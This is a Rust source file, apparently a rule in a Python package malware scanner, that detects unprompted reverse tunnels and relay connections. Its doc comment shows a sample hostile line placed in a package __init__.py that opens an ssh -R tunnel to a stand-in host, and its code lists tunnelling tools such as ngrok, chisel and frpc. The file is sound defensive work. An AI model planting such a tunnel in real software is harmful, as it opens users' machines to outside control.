//! ## What it detects
//!
//! A command of code that nobody called, which opens a way into this machine from outside: `ssh -R`, `ngrok`, `cloudflared`, `frpc`, `chisel`. Or a connection to where the network tells it to, through which it passes on what it is sent.
//!
//! ## Why it is bad
//!
//! What listens only within the network can be reached from everywhere (ATT&CK T1572).
//!
//! ## Innocent lookalikes
//!
//! Libraries that share a notebook or a demo open a tunnel when they are asked to.
//!
//! ## Bad
//!
//! ```python pkg/__init__.py
//! import subprocess
//! subprocess.Popen(['ssh', '-R', '2222:localhost:22', 'a@x.example.invalid', '-N'])
//! ```
//!
//! ## Good
//!
//! ```python pkg/__init__.py
//! import subprocess
//! subprocess.Popen(['ssh', '-V'])
//! ```

use fondaco_python::{Api, Call, Taint};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("outbound-tunnel"),
    title: "opens a way in from outside",
    severity: Severity::High,
    confidence: Confidence::High,
    behaviour: Some(Behaviour::CommandAndControl),
    weight: 1.4,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls().filter(|(_, call)| call.api == Some(Api::Shell)) {
        let text = call.texts().join(" ");
        if call.trigger.is_some_and(Trigger::is_unasked) && text.len() < 4096 && is_tunnel(&text) {
            hits.call(unit, call, "a command that opens a tunnel");
        }
    }
    for (unit, call) in package.calls().filter(|(_, call)| call.trigger.is_some_and(Trigger::is_unasked)) {
        let passes = |sent: &Call| {
            let is_socket = sent.callee.starts_with("socket.socket().send") || sent.callee.ends_with(".write");
            is_socket && sent.function == call.function && sent.args.first().is_some_and(|data| data.taint.has(Taint::NETWORK))
        };
        let is_told = call.args.iter().any(|address| address.taint.has(Taint::NETWORK));
        if is_connection(call) && is_told && unit.calls.iter().any(passes) {
            hits.call(unit, call, "connects to where somebody tells it to");
        }
    }
}

/// What opens a connection to the address in its argument.
fn is_connection(call: &Call) -> bool {
    matches!(call.callee.as_str(), "socket.create_connection" | "asyncio.open_connection")
        || call.callee == "socket.socket().connect"
}

fn is_tunnel(text: &str) -> bool {
    let words: Vec<&str> = text.split_whitespace().collect();
    let program = words.first().map(|word| word.rsplit('/').next().unwrap_or_default()).unwrap_or_default();
    match program.trim_end_matches(".exe") {
        "ssh" | "autossh" => words.contains(&"-R"),
        "ngrok" => words.iter().any(|word| matches!(*word, "http" | "tcp")),
        "cloudflared" => words.contains(&"tunnel"),
        "frpc" => words.len() > 1,
        "chisel" => words.contains(&"client"),
        _ => false,
    }
}
